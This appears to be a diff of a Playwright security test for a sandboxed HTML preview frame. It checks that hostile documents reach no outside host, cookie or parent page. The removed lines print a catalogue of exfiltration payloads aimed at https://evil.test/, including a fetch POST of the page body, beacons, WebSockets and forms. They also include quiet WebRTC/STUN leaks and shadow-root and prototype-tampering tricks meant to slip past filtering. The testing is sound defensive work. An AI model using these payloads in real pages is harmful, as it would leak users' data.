@@ -1,101 +1,25 @@
-import { createSocket } from "node:dgram";
-import { createServer } from "node:net";
+import type { Page } from "@playwright/test";
 import * as z from "zod/mini";
 import { callApi, enter } from "./fixtures/api.ts";
 import { composer } from "./fixtures/chat.ts";
 import { expect, test } from "./fixtures/test.ts";
+import { askFrame, LOUD_WAYS, quietDocuments, showDocuments } from "../support/hostile-documents.ts";
+import { listen } from "../support/listener.ts";
 
 const EVIL = "https://evil.test/";
 
-/** Ways out of a document, each tried twice; what runs says so in its own title. */
-const WAYS = [
-  (to: string) => `<img src="${to}">`,
-  (to: string) => `<link rel="stylesheet" href="${to}">`,
-  (to: string) => `<link rel="prefetch" href="${to}">`,
-  (to: string) => `<link rel="icon" href="${to}">`,
-  (to: string) => `<script src="${to}"></script>`,
-  (to: string) => `<script type="module">import("${to}")</script>`,
-  (to: string) => `<script>fetch("${to}", { method: "POST", mode: "no-cors", body: document.body.outerHTML })</script>`,
-  (to: string) => `<script>const x = new XMLHttpRequest(); x.open("GET", "${to}"); x.send()</script>`,
-  (to: string) => `<script>navigator.sendBeacon("${to}", "x")</script>`,
-  (to: string) => `<script>new WebSocket("${to.replace("https", "wss")}")</script>`,
-  (to: string) => `<script>new EventSource("${to}")</script>`,
-  (to: string) => `<script>location = "${to}"</script>`,
-  (to: string) => `<script>top.location = "${to}"</script>`,
-  (to: string) => `<script>open("${to}")</script>`,
-  (to: string) => `<meta http-equiv="refresh" content="0;url=${to}">`,
-  (to: string) => `<form action="${to}" method="post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
-  (to: string) => `<a href="${to}" target="_blank">x</a><script>document.querySelector("a").click()</script>`,
-  (to: string) => `<a href="${to}" target="_top">x</a><script>document.querySelector("a").click()</script>`,
-  (to: string) => `<iframe src="${to}"></iframe>`,
-  (to: string) => `<object data="${to}"></object><embed src="${to}">`,
-  (to: string) => `<video src="${to}" poster="${to}" autoplay></video><audio src="${to}" autoplay></audio>`,
-  (to: string) =>
-    `<style>@import "${to}"; body { background: url("${to}") } @font-face { font-family: f; src: url("${to}") } p { font-family: f }</style><p>x</p>`,
-  (to: string) =>
-    `<svg xmlns="http://www.w3.org/2000/svg"><image href="${to}"/><use href="${to}#a"/><foreignObject><img src="${to}"/></foreignObject></svg>`,
-  (to: string) => `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${to}')"><script>fetch("${to}")</script></svg>`,
-  (to: string) => `<iframe srcdoc="<script>fetch('${to}')</script>"></iframe>`,
-];
-
-const DOCUMENTS = WAYS.flatMap((way, place) =>
+/** Each tried twice; what runs says so in its own title. */
+const DOCUMENTS = LOUD_WAYS.flatMap((way, place) =>
   Array.from({ length: 2 }, (_, n) => `<!doctype html><p>Document ${place}</p>${way(`${EVIL}${place}/${n}`)}`),
 );
 
-/** Ways that no request tells of: hints to a server, and peer connections, which ask one of their choice. */
-function quietWays(port: number): string[] {
-  const call = `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`;
-  const inside = `<script>${call}</script>`.replaceAll('"', "&quot;");
-  const frame = `<iframe srcdoc="${inside}"></iframe>`;
-  // As a script's own text holds it.
-  const told = (markup: string) => JSON.stringify(markup).replaceAll("</", String.raw`<\/`);
-  const declared = (mode: string, more = "") => `<div><template shadowrootmode="${mode}"${more}>${frame}</template></div>`;
-  const to = `http://127.0.0.1:${port}/`;
-  return [
-    `<script>${call}</script>`,
-    `<script>${call.replace("RTC", "webkitRTC")}</script>`,
-    `<iframe srcdoc="${inside}"></iframe>`,
-    `<iframe src="javascript:${call.replaceAll('"', "&quot;")}"></iframe>`,
-    `<iframe srcdoc="${inside}"></iframe><script>for (const end = Date.now() + 300; Date.now() < end;);</script>`,
-    `<p></p><script>const root = document.querySelector("p").attachShadow({ mode: "closed" }); root.innerHTML = "<iframe></iframe>"; root.firstChild.srcdoc = ${JSON.stringify(`<script>${call}</script>`).replaceAll("</", String.raw`<\/`)};</script>`,
-    `<script>document.querySelectorAll = Element.prototype.remove = Reflect.apply = () => []; document.body.innerHTML = '<iframe srcdoc="${inside}"></iframe>';</script>`,
-    // Roots that come by parsing, in the document and by scripts, and copies of roots.
-    declared("closed"),
-    declared("open").replace("shadowrootmode", "ShadowRootMode"),
-    declared("closed", " shadowrootclonable"),
-    `<p></p><script>document.querySelector("p").setHTMLUnsafe(${told(declared("closed"))});</script>`,
-    `<p></p><script>const r = document.querySelector("p").attachShadow({ mode: "open" }); r.setHTMLUnsafe(${told(declared("open"))});</script>`,
-    `<script>const d = Document.parseHTMLUnsafe(${told(declared("closed"))}); document.documentElement.append(d.body.firstChild);</script>`,
-    `<script>const d = new DOMParser().parseFromString(${told(declared("closed"))}, "text/html", { includeShadowRoots: true }); document.documentElement.append(d.body.firstChild);</script>`,
-    `<script>document.write(${told(declared("open"))});</script>`,
-    `<script>document.write("<div><template shadowroot");</script>mode="closed">${frame}</template></div>`,
-    `<script>onload = () => { document.open(); document.write(${told(`<body>${declared("closed")}`)}); document.close(); };</script>`,
-    `<p></p><script>const p = document.querySelector("p"); p.attachShadow({ mode: "open", clonable: true }).innerHTML = ${told(frame)}; document.body.append(p.cloneNode(true), document.importNode(p, true));</script>`,
-    `<p></p><script>Object.prototype.clonable = true; const p = document.querySelector("p"); p.attachShadow({ mode: "closed" }).innerHTML = ${told(frame)}; document.body.append(p.cloneNode(true));</script>`,
-    `<p></p><script>Object.prototype.attributes = false; Object.prototype.attributeOldValue = true; const p = document.querySelector("p"); try { p.attachShadow({ mode: "open" }); } catch {} p.shadowRoot.innerHTML = ${told(frame)};</script>`,
-    `<script>Object.defineProperty(NodeList.prototype, "length", { get: () => 0 }); document.documentElement.insertAdjacentHTML("beforeend", ${told(frame)});</script>`,
-    `<script>const d = document.implementation.createHTMLDocument(); const p = d.createElement("p"); p.attachShadow({ mode: "closed" }).innerHTML = ${told(frame)}; document.documentElement.append(p);</script>`,
-    `<link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}">`,
-    `<script type="speculationrules">{ "prefetch": [{ "source": "list", "urls": ["${to}"] }] }</script>`,
-    `<a href="#x" ping="${to}">x</a><script>document.querySelector("a").click()</script>`,
-  ];
-}
-
-/** Hears whatever comes to a port of this machine, by either way. */
-async function listen(heard: string[]): Promise<{ port: number; close: () => void }> {
-  const udp = createSocket("udp4", () => heard.push("a datagram"));
-  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
-  const { port } = udp.address();
-  const tcp = createServer((socket) => {
-    heard.push("a connection");
-    socket.destroy();
+/** As a browser that knows no allowlists of connections. */
+function withoutAllowlist(page: Page): Promise<unknown> {
+  return page.context().route("**/artifact-frame", async (route) => {
+    const answer = await route.fetch();
+    const headers = Object.entries(answer.headers()).filter(([name]) => name !== "connection-allowlist");
+    await route.fulfill({ response: answer, headers: Object.fromEntries(headers) });
   });
-  await new Promise<void>((resolve) => tcp.listen(port, "127.0.0.1", resolve));
-  const close = () => {
-    udp.close();
-    tcp.close();
-  };
-  return { port, close };
 }
 
 test("hostile documents reach no other host, no cookie and no page of ours", async ({ page, baseURL, allowConsole }) => {
@@ -112,7 +36,7 @@ test("hostile documents reach no other host, no cookie and no page of ours", asy
   page.on("websocket", (socket) => {
     if (new URL(socket.url()).host !== own) foreign.push(socket.url());
   });
-  const listener = await listen(foreign);
+  const listener = await listen(foreign, "this machine");
   page.context().on("page", (opened) => foreign.push(`opened ${opened.url()}`));
   await enter(page);
   await page.goto("/");
@@ -120,65 +44,22 @@ test("hostile documents reach no other host, no cookie and no page of ours", asy
 
   const crashed: string[] = [];
   page.on("crash", () => crashed.push("crashed"));
-  const showAll = (all: string[]) =>
-    page.evaluate(async (documents) => {
-      const show = (source: string) =>
-        new Promise<void>((resolve) => {
-          const frame = document.createElement("iframe");
-          frame.setAttribute("sandbox", "allow-scripts");
-          frame.src = "/artifact-frame";
-          addEventListener("message", ({ source: from, data }) => {
-            if (from !== frame.contentWindow || data?.type !== "ready") return;
-            frame.contentWindow?.postMessage({ kind: "html", source }, "*");
-            frame.contentWindow?.postMessage({ kind: "html", source: "<script>parent.secondWasTaken = true</script>" }, "*");
-            resolve();
-          });
-          document.body.append(frame);
-        });
-      await Promise.all(documents.map(show));
-      return document.querySelectorAll("iframe").length;
-    }, all);
-  const quiet = quietWays(listener.port);
-  expect(await showAll([...quiet, ...DOCUMENTS])).toBeGreaterThanOrEqual(DOCUMENTS.length + quiet.length);
+  const quiet = quietDocuments(listener.port);
+  expect(await page.evaluate(showDocuments, { documents: [...quiet, ...DOCUMENTS], scripts: false })).toBeGreaterThanOrEqual(
+    DOCUMENTS.length + quiet.length,
+  );
 
   // What a document can learn of the page around it is nothing, and what goes wrong in it is told.
-  const ask = () =>
-    page.evaluate(
-      () =>
-        new Promise<string>((resolve) => {
-          const frame = document.createElement("iframe");
-          frame.setAttribute("sandbox", "allow-scripts");
-          frame.src = "/artifact-frame";
-          addEventListener("message", ({ source, data }) => {
-            if (source !== frame.contentWindow) return;
-            if (data.type === "error") resolve(`${data.message}`);
-            else
-              frame.contentWindow?.postMessage(
-                {
-                  source: `<script>
-                  const tried = (read) => { try { return String(read()); } catch { return "refused"; } };
-                  throw new Error([origin, tried(() => document.cookie), tried(() => localStorage.length), tried(() => parent.document.title)].join(" "));
-                </script>`,
-                },
-                "*",
-              );
-          });
-          document.body.append(frame);
-        }),
-    );
   // Each of these is a document that comes after all others: what they set going has begun by then.
-  for (let n = 0; n < 5; n += 1) expect(await ask()).toContain("null refused refused refused");
+  for (let n = 0; n < 5; n += 1) expect(await page.evaluate(askFrame, false)).toContain("null refused refused refused");
   expect(page.url()).toBe(address);
   expect(foreign).toEqual([]);
 
   // In a browser without connection allowlists as well.
-  await page.context().route("**/artifact-frame", async (route) => {
-    const answer = await route.fetch();
-    const headers = Object.entries(answer.headers()).filter(([name]) => name !== "connection-allowlist");
-    await route.fulfill({ response: answer, headers: Object.fromEntries(headers) });
-  });
-  await showAll(quiet.filter((way) => !way.startsWith("<link")));
-  for (let n = 0; n < 5; n += 1) expect(await ask()).toContain("null refused refused refused");
+  await withoutAllowlist(page);
+  expect(await page.evaluate(askFrame, false)).toBe("asks ");
+  await page.evaluate(showDocuments, { documents: quiet, scripts: true });
+  for (let n = 0; n < 5; n += 1) expect(await page.evaluate(askFrame, true)).toContain("null refused refused refused");
   expect([...foreign, ...crashed]).toEqual([]);
   // What a page could say in this way would have been heard.
   await page.evaluate((port) => {
@@ -186,7 +67,7 @@ test("hostile documents reach no other host, no cookie and no page of ours", asy
     peer.createDataChannel("x");
     void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
   }, listener.port);
-  await expect.poll(() => foreign).toContain("a datagram");
+  await expect.poll(() => foreign).toContain("this machine: a datagram");
   listener.close();
   // A frame's own request can hang in the browser's interception, which has done its part.
   await page.context().unrouteAll();
@@ -202,6 +83,39 @@ test("hostile documents reach no other host, no cookie and no page of ours", asy
   await expect(page.getByText("forged")).toHaveCount(0);
   await failure.getByRole("button", { name: "Ask a model to mend it" }).click();
   await expect(composer(page)).toHaveValue(/fails with this error\. Mend it:[\s\S]*its own/);
+});
+
+test("a page whose scripts the browser cannot hold is shown without them, and asks once before they run", async ({ page }) => {
+  await withoutAllowlist(page);
+  await enter(page);
+  const content = (text: string) =>
+    `\`\`\`html\n<p onclick="say(1)">Still ${text}</p><script>document.body.append("It runs");</script>\n\`\`\``;
+  const body = { title: "Page", content: content("one") };
+  const { id } = z.object({ id: z.string() }).parse(await callApi(page, { method: "POST", path: "/api/artifacts", body }));
+  await page.goto(`/artifacts/${id}`);
+  const preview = page.getByRole("region", { name: "Preview" });
+  const shown = preview.frameLocator("iframe").locator("body");
+  const question = preview.getByRole("status").filter({ hasText: "could send what the page shows" });
+  await expect(question).toBeVisible();
+  await expect(shown).toHaveText("Still one");
+  await question.getByRole("button", { name: "Run scripts" }).click();
+  await expect(shown).toContainText("It runs");
+  await expect(question).toHaveCount(0);
+  // Not again for another version, nor when it is come back to; for another page it is.
+  await callApi(page, { method: "PUT", path: `/api/artifacts/${id}/content`, body: { content: content("two"), base_version: 1 } });
+  await expect(shown).toContainText("Still two");
+  await expect(shown).toContainText("It runs");
+  await page.reload();
+  await expect(question).toBeVisible();
+  // One without scripts has nothing to ask for.
+  await callApi(page, {
+    method: "PUT",
+    path: `/api/artifacts/${id}/content`,
+    body: { content: "```html\n<p>Plain</p>\n```", base_version: 2 },
+  });
+  await expect(shown).toHaveText("Plain");
+  await expect(question).toHaveCount(0);
+  await page.context().unrouteAll();
 });
 
 /** What WebKit does in a document without an origin: only a script that has an address of its own is told about. */
